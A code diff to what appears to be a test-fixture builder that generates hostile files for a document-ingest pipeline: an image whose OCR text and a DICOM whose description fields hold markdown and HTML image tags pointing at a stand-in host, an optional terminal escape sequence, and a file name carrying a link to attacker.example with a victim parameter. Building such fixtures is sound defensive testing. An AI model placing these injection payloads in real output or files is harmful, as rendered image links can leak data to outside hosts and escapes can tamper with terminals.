@@ -185,7 +185,7 @@ def build(folder: Path) -> list[HostileFile]:
     # an image whose OCR reads as markdown, and a DICOM whose description is markup
     topic, n = next(topics), next(index)
     add("slide.png", "image", ocr_png([f"{topic} figure {n}.{n}", f"![x](http://{HOST}/ocr.png)", f"<img src=http://{HOST}/o2.png>"]), topic)
-    add("scan.dcm", "image", _hostile_dicom())
+    add("scan.dcm", "image", hostile_dicom())
     # file names holding markup and escapes (names from disk are not sanitised)
     topic, text = doc(("md_image",))
     add("S ![k](https:attacker.example?victim=acme) s.md", "markdown", text, topic)
@@ -196,13 +196,15 @@ def build(folder: Path) -> list[HostileFile]:
     return files
 
 
-def _hostile_dicom() -> bytes:
+def hostile_dicom(escapes: bool = False) -> bytes:
+    """A DICOM whose descriptions are markup (and, with ``escapes``, a terminal escape, which
+    pydicom reads as an unknown ISO 2022 switch: ingest then refuses it as malformed)."""
     import io
 
     import pydicom
 
     ds = pydicom.dcmread(io.BytesIO(dicom_bytes()))
-    ds.StudyDescription = f"![d](http://{HOST}/dicom.png) {ESC}[2J"[:64]
+    ds.StudyDescription = (f"![d](http://{HOST}/dicom.png)" + (f" {ESC}[2J" if escapes else ""))[:64]
     ds.SeriesDescription = f"<img src=http://{HOST}/series.png>"
     out = io.BytesIO()
     ds.save_as(out, enforce_file_format=True)
